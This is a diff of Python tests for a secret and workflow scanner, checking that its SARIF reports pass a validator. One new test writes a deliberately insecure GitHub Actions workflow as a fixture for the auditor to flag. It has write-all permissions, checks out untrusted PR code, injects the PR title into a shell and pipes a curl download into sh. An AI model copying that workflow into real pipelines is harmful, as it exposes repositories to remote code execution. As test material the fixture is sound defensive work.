@@ -18,8 +18,8 @@ GITHUB_RULES = ("GH1001.ProvideRequiredLocationProperties", "GH1002.InlineThread
                 "GH1007.ProvideFullyFormattedMessageStrings")
 # It asks the network for every URL.
 OFF = ("SARIF2006.UrisShouldBeReachable",)
-# The tool has no home page to name.
-KNOWN = {"SARIF2005"}
+# assay names a page of its own where the user or the build gave one; without it the tool misses informationUri.
+PAGE = {"ASSAY_HOME_PAGE": "https://docs.example.org/assay"}
 
 
 def configuration():
@@ -46,7 +46,7 @@ class Multitool(Scenario):
                        capture_output=True, timeout=240, check=False)
         run = json.loads((self.folder / "told.sarif").read_text(encoding="utf-8-sig"))["runs"][0]
         return [(result["ruleId"], result.get("level", "warning"), str(result["message"])) for result in run["results"]
-                if result.get("level", "warning") in ("error", "warning") and result["ruleId"] not in KNOWN]
+                if result.get("level", "warning") in ("error", "warning")]
 
     def test_it_sees_what_is_wrong(self):
         self.write("bad.sarif", json.dumps({"version": "2.1.0", "runs": [{
@@ -65,12 +65,36 @@ class Multitool(Scenario):
         self.commit(f"message with {tokens[5].decode()}")
         for name, arguments in (("files", ["tree"]), ("archives", ["tree/dist"]), ("history", ["git", "."]),
                                 ("gap", ["tree", "missing"])):
-            self.run_assay("scan", *arguments, "--format", "sarif", "-o", f"{name}.sarif")
+            self.run_assay("scan", *arguments, "--format", "sarif", "-o", f"{name}.sarif", environment=PAGE)
             self.assertEqual(self.complaints(f"{name}.sarif"), [], name)
         for name, arguments in (("merged", ["merge", "files.sarif", "history.sarif"]),
                                 ("marked", ["baseline", "archives.sarif", "files.sarif"])):
             self.assertEqual(self.run_assay("sarif", *arguments, "-o", f"{name}.sarif").returncode, 0)
             self.assertEqual(self.complaints(f"{name}.sarif"), [], name)
+
+    def test_scans_by_absolute_paths_and_from_elsewhere_are_clean(self):
+        self.write("work/tree/a.py", f"a = '{github_token(67)}'\n")
+        self.write("other/x", "")
+        self.run_assay("scan", self.folder / "work/tree", "--format", "sarif", "-o", "absolute.sarif", environment=PAGE,
+                       prefix=("env", "-C", str(self.folder / "other")))
+        self.assertEqual(self.complaints("other/absolute.sarif"), [])
+
+    def test_findings_of_workflows_are_clean(self):
+        self.write("repo/.github/workflows/ci.yml", "on: pull_request_target\npermissions: write-all\njobs:\n  a:\n"
+                   "    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v3\n        with:\n"
+                   "          ref: ${{ github.event.pull_request.head.sha }}\n      - run: |\n"
+                   "          echo ${{ github.event.pull_request.title }}\n          curl -sk https://example.org | sh || true\n")
+        for name, path, start in (("here", "repo", self.folder), ("absolute", self.folder / "repo", "/")):
+            self.run_assay("workflows", path, "--persona", "auditor", "--format", "sarif", "-o",
+                           self.folder / f"{name}.sarif", environment=PAGE, prefix=("env", "-C", str(start)))
+            run = json.loads((self.folder / f"{name}.sarif").read_text())["runs"][0]
+            self.assertGreater(len(run["results"]), 3)
+            self.assertEqual(self.complaints(f"{name}.sarif"), [], name)
+
+    def test_without_a_page_of_its_own_nothing_but_that_is_missed(self):
+        self.write("a.py", f"a = '{github_token(68)}'\n")
+        self.run_assay("scan", "a.py", "--format", "sarif", "-o", "plain.sarif")
+        self.assertEqual([rule for rule, _, _ in self.complaints("plain.sarif")], ["SARIF2005"])
 
 
 if __name__ == "__main__":
